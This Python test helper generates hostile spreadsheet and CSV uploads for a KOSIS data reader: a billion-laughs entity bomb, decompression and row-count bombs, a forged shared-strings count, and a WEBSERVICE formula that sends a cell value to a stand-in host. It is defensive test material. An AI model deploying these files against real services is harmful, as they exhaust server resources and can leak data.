"""Hostile uploads, built on demand (nothing multi-megabyte is committed).

Each builder writes one file into a folder and returns its path. The XLSX files are
assembled from raw XML parts, because the point of most of them is what a well-behaved
writer would never produce: a used range of 16,384 × 1,048,576 cells in 1.6 KB, a sheet
that inflates a thousandfold, an XML entity bomb. `bench/bench_hostile.py` measures the
readers on them; `tests/test_hostile_input.py` checks what a user is told.

Run `python tests/hostile_files.py DIR` to write them all into DIR.
"""

from __future__ import annotations

import random
import sys
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path

NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SIDO = ("서울특별시", "부산광역시", "대구광역시", "인천광역시", "광주광역시", "대전광역시",
        "울산광역시", "세종특별자치시", "경기도", "강원특별자치도", "충청북도", "충청남도",
        "전북특별자치도", "전라남도", "경상북도", "경상남도", "제주특별자치도")
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
WORKBOOK = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="{NS}" '
    f'xmlns:r="{REL_NS}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>'
    '</workbook>')
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
SHEET_HEAD = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="{NS}">'


def _text(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _number(ref: str, value) -> str:
    return f'<c r="{ref}"><v>{value}</v></c>'


def _kosis_rows(years=(2021, 2022)) -> str:
    """A small, valid KOSIS wide table (시도별, one column per year) as sheet rows."""
    cols = "BCDEFGH"
    head = _text("A1", "시도별") + "".join(_text(f"{cols[i]}1", f"{y} 년")
                                         for i, y in enumerate(years))
    rows = [f'<row r="1">{head}</row>']
    for r, name in enumerate(SIDO, start=2):
        cells = _text(f"A{r}", name) + "".join(_number(f"{cols[i]}{r}", 1000 + r * 10 + i)
                                              for i in range(len(years)))
        rows.append(f'<row r="{r}">{cells}</row>')
    return "".join(rows)


def write_xlsx(path: Path, sheet: str | Iterable[str], *, workbook: str = WORKBOOK,
               extra: dict[str, str] | None = None, level: int = 9) -> Path:
    """A minimal workbook; ``sheet`` is the sheet XML, or chunks of it to stream."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        for name, text in (extra or {}).items():
            archive.writestr(name, text)
        if isinstance(sheet, str):
            archive.writestr("xl/worksheets/sheet1.xml", sheet)
        else:
            with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
                for chunk in sheet:
                    member.write(chunk.encode("utf-8"))
    return path


def widest_range(folder: Path) -> Path:
    """1.6 KB: a valid table plus one cell at XFD1 and one at A1048576."""
    sheet = (SHEET_HEAD + '<sheetData>' + _kosis_rows()
             + '</sheetData></worksheet>')
    sheet = sheet.replace('<row r="1">', '<row r="1">', 1).replace(
        "</row>", _text("XFD1", "x") + "</row>", 1)
    sheet = sheet.replace("</sheetData>", f'<row r="1048576">{_text("A1048576", "x")}</row>'
                          "</sheetData>")
    return write_xlsx(folder / "widest_range.xlsx", sheet)


def inflating_sheet(folder: Path, megabytes: int = 1024) -> Path:
    """~1 MB on disk; the sheet XML inflates to ``megabytes`` MB (blank padding in it)."""
    padding = " " * (1024 * 1024)

    def chunks():
        yield SHEET_HEAD + "<sheetData>" + _kosis_rows()
        for _ in range(megabytes):
            yield padding
        yield "</sheetData><mergeCells count=\"1\"><mergeCell ref=\"A1:A1\"/></mergeCells>"
        yield "</worksheet>"
    return write_xlsx(folder / "inflating_sheet.xlsx", chunks())


def ten_million_rows(folder: Path, rows: int = 10_000_000) -> Path:
    """~0.6 MB on disk: ten million identical rows of one cell each."""
    block = '<row><c t="n"><v>1</v></c></row>' * 10_000

    def chunks():
        yield SHEET_HEAD + "<sheetData>" + _kosis_rows()
        for _ in range(rows // 10_000):
            yield block
        yield "</sheetData></worksheet>"
    return write_xlsx(folder / "ten_million_rows.xlsx", chunks())


def million_rows(folder: Path, rows: int = 1_000_000) -> Path:
    """A plausible tidy table (region_code, year, indicator, value) of a million distinct
    observations."""
    rng = random.Random(1)
    codes = ("11", "26", "27", "28", "29", "30", "31", "36", "41", "51", "43", "44", "52",
             "46", "47", "48", "50")

    def chunks():
        yield SHEET_HEAD + "<sheetData>"
        yield ('<row r="1">' + _text("A1", "region_code") + _text("B1", "year")
               + _text("C1", "indicator") + _text("D1", "value") + "</row>")
        batch = []
        for r in range(2, rows + 2):
            batch.append(f'<row r="{r}"><c r="A{r}"><v>{codes[r % 17]}</v></c>'
                         f'<c r="B{r}"><v>{1900 + r % 125}</v></c>'
                         f'<c r="C{r}"><v>{r // 2125}</v></c>'
                         f'<c r="D{r}"><v>{rng.randint(0, 10**6)}</v></c></row>')
            if len(batch) == 10_000:
                yield "".join(batch)
                batch = []
        yield "".join(batch) + "</sheetData></worksheet>"
    return write_xlsx(folder / "million_rows.xlsx", chunks())


def billion_laughs(folder: Path) -> Path:
    """workbook.xml declares nested entities that expand to 10⁹ 'lol's."""
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    workbook = (f'<?xml version="1.0"?><!DOCTYPE workbook [{entities}]>'
                + WORKBOOK.split("?>", 1)[1].replace('name="Sheet1"', 'name="&lol9;"'))
    sheet = SHEET_HEAD + "<sheetData>" + _kosis_rows() + "</sheetData></worksheet>"
    return write_xlsx(folder / "billion_laughs.xlsx", sheet, workbook=workbook)


def shared_strings_count(folder: Path) -> Path:
    """1 KB: sharedStrings.xml declares four billion strings (calamine reserves 96 GB)."""
    types = CONTENT_TYPES.replace("</Types>", (
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'))
    rels = WORKBOOK_RELS.replace("</Relationships>", (
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'))
    strings = (f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{NS}" count="4000000000" '
               'uniqueCount="4000000000"><si><t>서울특별시</t></si></sst>')
    sheet = SHEET_HEAD + '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>'
    path = folder / "shared_strings_count.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in (("[Content_Types].xml", types), ("_rels/.rels", ROOT_RELS),
                           ("xl/workbook.xml", WORKBOOK), ("xl/_rels/workbook.xml.rels", rels),
                           ("xl/sharedStrings.xml", strings),
                           ("xl/worksheets/sheet1.xml", sheet)):
            archive.writestr(name, text)
    return path


def external_formulas(folder: Path) -> Path:
    """Cached values of formulas that read another workbook and the web."""
    rows = _kosis_rows()
    rows = rows.replace('<c r="B2"><v>1020</v></c>',
                        '<c r="B2"><f>[1]Sheet1!A1*2</f><v>1020</v></c>')
    rows = rows.replace('<c r="C3"><v>1031</v></c>',
                        '<c r="C3"><f>WEBSERVICE("http://example.invalid/?q="&amp;A3)</f>'
                        '<v>1031</v></c>')
    sheet = SHEET_HEAD + "<sheetData>" + rows + "</sheetData></worksheet>"
    link = (f'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="{NS}">'
            '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships" r:id="rId1"/></externalLink>')
    return write_xlsx(folder / "external_formulas.xlsx", sheet,
                      extra={"xl/externalLinks/externalLink1.xml": link})


def local_formula(folder: Path) -> Path:
    """A formula within the sheet (C2 = B2 + 10) with its cached value."""
    rows = _kosis_rows().replace('<c r="C2"><v>1021</v></c>',
                                 '<c r="C2"><f>B2+1</f><v>1021</v></c>')
    sheet = SHEET_HEAD + "<sheetData>" + rows + "</sheetData></worksheet>"
    return write_xlsx(folder / "local_formula.xlsx", sheet)


def large_kosis_csv(folder: Path, megabytes: int = 19) -> Path:
    """A long KOSIS CSV (행정구역별, 연도, 항목, 값) of about ``megabytes`` MB."""
    path = folder / "kosis_large.csv"
    rng = random.Random(2)
    with open(path, "w", encoding="utf-8", newline="") as out:
        out.write("행정구역별,연도,항목,값\n")
        item = 0
        while out.tell() < megabytes * 1024 * 1024:
            item += 1
            out.write("".join(f"{name},{year},항목{item},{rng.randint(0, 10**9)}\n"
                              for name in SIDO for year in range(1990, 2025)))
    return path


def oversized_csv(folder: Path, megabytes: int = 25) -> Path:
    """A valid-looking CSV over the upload limit."""
    path = folder / f"oversized_{megabytes}mb.csv"
    line = ("서울특별시," + ",".join(["1"] * 40) + "\n").encode("utf-8")
    with open(path, "wb") as out:
        out.write(("시도별," + ",".join(f"{1985 + i} 년" for i in range(40)) + "\n").encode())
        out.write(line * (megabytes * 1024 * 1024 // len(line) + 1))
    return path


def text_file(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def typo_first_row(folder: Path) -> Path:
    return text_file(folder, "typo_first_row.csv",
                     "시도별,2022 년\n서울특별시,12a4\n부산광역시,3\n")


def year_9999(folder: Path) -> Path:
    return text_file(folder, "year_9999.csv", "행정구역별,연도,값\n서울특별시,9999,1\n부산광역시,2022,2\n")


def year_0000(folder: Path) -> Path:
    return text_file(folder, "year_0000.csv", "시도별,0000 년,2022 년\n서울특별시,1,2\n부산광역시,3,4\n")


def value_1e309(folder: Path) -> Path:
    return text_file(folder, "value_1e309.csv", "시도별,2022 년\n서울특별시,1e309\n부산광역시,3\n")


BUILDERS: dict[str, Callable[[Path], Path]] = {
    "widest_range": widest_range, "inflating_sheet": inflating_sheet,
    "ten_million_rows": ten_million_rows, "million_rows": million_rows,
    "billion_laughs": billion_laughs, "shared_strings_count": shared_strings_count,
    "external_formulas": external_formulas,
    "local_formula": local_formula, "large_kosis_csv": large_kosis_csv,
    "oversized_csv": oversized_csv, "typo_first_row": typo_first_row,
    "year_9999": year_9999, "year_0000": year_0000, "value_1e309": value_1e309,
}


if __name__ == "__main__":
    target = Path(sys.argv[1])
    target.mkdir(parents=True, exist_ok=True)
    for builder in BUILDERS.values():
        built = builder(target)
        print(f"{built.stat().st_size:>12,} {built}")
